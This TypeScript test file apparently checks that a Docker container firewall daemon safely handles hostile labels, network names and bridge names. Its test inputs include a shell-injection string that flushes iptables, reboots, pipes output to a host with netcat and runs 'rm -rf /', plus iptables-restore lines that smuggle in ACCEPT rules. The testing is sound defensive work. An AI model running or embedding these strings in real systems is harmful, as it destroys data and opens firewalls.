// Hostile Docker data (issue 7): odd but legal names, custom bridge names,
// 1 MB label values, thousands of entries and labels, labels with newlines,
// quotes, `-j ACCEPT` and shell metacharacters. Reconciles stay bounded in
// time and memory, no label text reaches the ruleset, and every other
// container's flows are exactly as before (by probe).
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { addressesOf, rssKiB, savedRules, settled, startPlain } from './faults-support.js';
import { createBed, type Bed } from './testbed/bed.js';
import { check } from './testbed/check.js';
import type { Moatd } from './testbed/moatd.js';
import { containerSource } from './testbed/probe.js';
import type { ServerContainer } from './testbed/server-container.js';

const MARK = 'QZXJ';
const SHELL = `${MARK}"; iptables -F; $(reboot) \`id\` | nc 203.0.113.2 80 & rm -rf / #`;
const INJECT = `${MARK}\n-A FORWARD -j ACCEPT\nCOMMIT\n*filter\n-I MOAT-FORWARD 1 -j ACCEPT`;

describe('hostile Docker data', () => {
  let bed: Bed;
  let moatd: Moatd;
  let v1: ServerContainer, v2: ServerContainer, odd: ServerContainer, granted: ServerContainer, dash: ServerContainer;
  const figures: Record<string, unknown> = {};
  const src = (c: ServerContainer) => containerSource(bed.engine.docker, c.id, c.name);

  beforeAll(async () => {
    bed = await createBed();
    await bed.createNetwork({ name: 'hx-b', subnets: ['172.30.94.0/24'] });
    await bed.createNetwork({ name: 'hx.odd_name-1.', subnets: ['172.30.91.0/24'], labels: { 'moat.egress': INJECT, [`moat.${MARK}`]: SHELL } });
    // A legal interface name that looks like an iptables option.
    await bed.createNetwork({ name: 'hx-dash', subnets: ['172.30.92.0/24'], options: { 'com.docker.network.bridge.name': '-jACCEPT' } });
    [v1, v2] = await Promise.all([bed.startServer({ name: 'v1', networks: ['hx-b'] }), bed.startServer({ name: 'v2', networks: ['hx-b'] })]);
    [odd, granted, dash] = await Promise.all([
      bed.startServer({ name: `0.a_b-c.${'x'.repeat(100)}`, networks: ['hx.odd_name-1.'] }),
      bed.startServer({
        name: 'granted',
        networks: ['hx.odd_name-1.'],
        labels: { 'moat.egress': `v1:80 ${SHELL}`, 'com.docker.compose.project': SHELL, 'com.docker.compose.service': INJECT },
      }),
      bed.startServer({ name: 'dash', networks: ['hx-dash'] }),
    ]);
    moatd = bed.startMoatd({ configPath: await bed.writeFile('config.yaml', 'reconcile: { resyncIntervalS: 60 }\n') });
    expect(await moatd.waitForEvent('reconcile', { timeoutMs: 20_000 })).toMatchObject({ ok: true, committed: true });
  });

  afterAll(async () => {
    console.log(`[faults-hostile] ${JSON.stringify(figures)}`);
    await bed?.dispose();
  });

  const unaffected = () =>
    check([
      { name: 'v1 -> v2 (same network)', from: src(v1), to: v2.ipv4('hx-b'), port: 80, state: 'open' },
      { name: 'v1 -> world', from: src(v1), to: bed.topology.world.ipv4, port: 80, state: 'open' },
      { name: 'v1 -> lan', from: src(v1), to: bed.topology.lan.ipv4, port: 80, state: 'closed' },
      { name: 'v1 -> odd name (other network)', from: src(v1), to: odd.ipv4('hx.odd_name-1.'), port: 80, state: 'closed' },
      { name: 'granted -> v1:80 (its valid entry)', from: src(granted), to: v1.ipv4('hx-b'), port: 80, state: 'open' },
      { name: 'granted -> v1:8080 (not granted)', from: src(granted), to: v1.ipv4('hx-b'), port: 8080, state: 'closed' },
      { name: 'odd -> lan', from: src(odd), to: bed.topology.lan.ipv4, port: 80, state: 'closed' },
      { name: 'bridge "-jACCEPT" -> world', from: src(dash), to: bed.topology.world.ipv4, port: 80, state: 'open' },
      { name: 'bridge "-jACCEPT" -> v1', from: src(dash), to: v1.ipv4('hx-b'), port: 80, state: 'closed' },
    ]);

  it('firewalls odd names and a bridge named like an iptables option', async () => {
    await unaffected();
    const text = await savedRules(bed.topology.host);
    expect(text).toContain('-i -jACCEPT -m comment');
  });

  it('stays bounded and injects nothing with 1 MB labels, thousands of entries and labels, newlines, quotes, shell', async () => {
    const rssBefore = await rssKiB(moatd.pid);
    const mark = moatd.mark();
    const manyLabels: Record<string, string> = {};
    for (let i = 0; i < 1000; i++) manyLabels[`junk.${i}`] = `${MARK}${'y'.repeat(200)}`;
    const cidrs = Array.from({ length: 999 }, (_, i) => `10.${200 + (i >> 8)}.${i & 255}.1:80`).join(',');
    // Straight through the API: testcontainers sends labels in a header, and 1 MB does not fit.
    const docker = bed.engine.docker;
    const plain = (name: string, labels: Record<string, string>) => startPlain(docker, bed.image, { name, network: 'hx-b', labels });
    const evil = await Promise.all([
      plain('mega', { 'moat.egress': `${MARK}${'a'.repeat(1 << 20)}`, 'moat.ingress': '-j ACCEPT' }),
      plain('many-entries', { 'moat.egress': Array.from({ length: 5000 }, (_, i) => `c${i}:80`).join(' '), 'moat.ingress': INJECT }),
      plain('many-cidrs', { 'moat.egress': cidrs }),
      plain('many-labels', manyLabels),
      plain('quotes', { 'moat.egress': `world\n-j ACCEPT\n"v2:80" 'v2:8080' v2:80;v2:8080 net:hx-b$(x)`, 'moat.ingress': SHELL }),
    ]);
    await moatd.waitForEvent((l) => l.event === 'reconcile' && l.committed === true && /container\.start|network\.connect/.test(String(l.trigger)), {
      since: mark,
    });
    await settled(moatd);
    const reconciles = moatd.lines.slice(mark).filter((l) => l.event === 'reconcile');
    const worst = Math.max(...reconciles.map((l) => Number(l.durationMs)));
    const rssAfter = await rssKiB(moatd.pid);
    const invalid = moatd.lines.slice(mark).filter((l) => l.event === 'label_invalid');
    const longest = Math.max(...moatd.lines.slice(mark).map((l) => JSON.stringify(l).length));
    Object.assign(figures, {
      reconciles: reconciles.length,
      worstReconcileMs: worst,
      rssBeforeKiB: rssBefore,
      rssAfterKiB: rssAfter,
      labelInvalidLines: invalid.length,
      longestLogLine: longest,
    });
    expect(worst).toBeLessThan(3_000);
    expect(rssAfter! - rssBefore!).toBeLessThan(200 * 1024);
    // Problems are reported, each clipped: a 1 MB label does not become a 1 MB log line.
    expect(invalid.length).toBeGreaterThan(0);
    expect(longest).toBeLessThan(64 * 1024);
    // Nothing of the label text is in the kernel.
    const text = `${await savedRules(bed.topology.host, 4)}\n${await savedRules(bed.topology.host, 6)}`;
    for (const needle of [MARK, 'reboot', '$(', '`', 'rm -rf', '"v2', "'v2"]) expect(text).not.toContain(needle);
    expect(text.split('\n').filter((l) => l === '-A FORWARD -j ACCEPT' || /-A MOAT-FORWARD -j ACCEPT$/.test(l))).toEqual([]);
    // The valid grants were honoured, and only those: 999 CIDR rules, and the world entry next to garbage.
    expect(text.split('\n').filter((l) => /-d 10\.20[0-3]\.\d+\.1\/32 -p tcp -m tcp --dport 80/.test(l))).toHaveLength(999);
    await unaffected();
    const [mega = '', , , , quotes = ''] = evil;
    const megaIp = (await addressesOf(docker, mega))['hx-b']!;
    const fromQuotes = containerSource(docker, quotes, 'quotes');
    await check([
      { name: 'quotes -> world (its one valid entry)', from: fromQuotes, to: bed.topology.world.ipv4, port: 80, state: 'open' },
      { name: 'quotes -> lan', from: fromQuotes, to: bed.topology.lan.ipv4, port: 80, state: 'closed' },
      { name: 'v1 -> mega (same network, ICC)', from: src(v1), to: megaIp, port: 80, state: 'open' },
      { name: 'odd -> mega ("-j ACCEPT" ingress is no grant)', from: src(odd), to: megaIp, port: 80, state: 'closed' },
    ]);
    // One at a time: dockerd 20.10 can deadlock (in releaseNetwork) when
    // several containers are force-removed at once, and then sends no events.
    for (const id of evil) await docker.getContainer(id).remove({ force: true });
  });

  // Regression: a bridge name moat refuses to render (here `x;y`, legal for
  // Linux and Docker) left that network unmanaged and, matching no
  // dockerBridges pattern, not firewalled at all. The core now denies such a
  // network by its subnets (MOAT-FORWARD and MOAT-INPUT).
  it('fails closed for a network whose bridge name moat cannot render', async () => {
    const mark = moatd.mark();
    await bed.createNetwork({ name: 'hx-semi', subnets: ['172.30.93.0/24'], options: { 'com.docker.network.bridge.name': 'x;y' } });
    const semi = await bed.startServer({ name: 'semi', networks: ['hx-semi'] });
    const problem = await moatd.waitForEvent((l) => l.event === 'docker_data_invalid' && String(l.reason).includes('x;y'), { since: mark, timeoutMs: 5_000 });
    expect(problem).toMatchObject({ subject: 'network hx-semi' });
    await settled(moatd);
    await check([
      { name: 'bridge "x;y" -> lan', from: src(semi), to: bed.topology.lan.ipv4, port: 80, state: 'closed' },
      { name: 'bridge "x;y" -> v1 (other network)', from: src(semi), to: v1.ipv4('hx-b'), port: 80, state: 'closed' },
    ]);
  });
});
